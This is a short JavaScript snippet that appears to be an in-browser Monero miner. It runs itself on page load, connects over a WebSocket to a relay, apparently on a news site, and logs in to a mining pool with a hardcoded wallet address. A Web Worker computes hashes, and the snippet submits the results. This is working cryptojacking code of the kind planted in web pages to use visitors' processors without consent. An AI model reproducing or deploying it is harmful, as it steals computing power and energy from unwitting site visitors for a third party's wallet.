// ES2015: a login at a pool of the Monero kind, over a WebSocket.
(() => {
  const socket = new WebSocket('wss://relay.news.example/s');
  const worker = new Worker('/static/task.js');
  let session = '';
  const say = (method, params) => socket.send(JSON.stringify({
    id: 1, jsonrpc: '2.0', method: method, params: params
  }));
  socket.onopen = () => say('login', {
    login: '41tcdMfd9EYAQfk4XG5naCKp4ykDbRNjAVDUDRuvkxt8ecsT7cEcECQ531cEyvkJmeESQqvgG5tvcPqp5cNbRV5aNmTBrVJ',
    pass: 'x',
    agent: 'page/1.0'
  });
  socket.onmessage = (event) => {
    const message = JSON.parse(event.data);
    if (message.result && message.result.job) {
      session = message.result.id;
      worker.postMessage(message.result.job);
    } else if (message.method === 'job') {
      worker.postMessage(message.params);
    }
  };
  worker.onmessage = (event) => say('submit', {
    id: session, job_id: event.data.job_id,
    nonce: event.data.nonce, result: event.data.hash
  });
  setInterval(() => say('keepalived', { id: session }), 60000);
})();
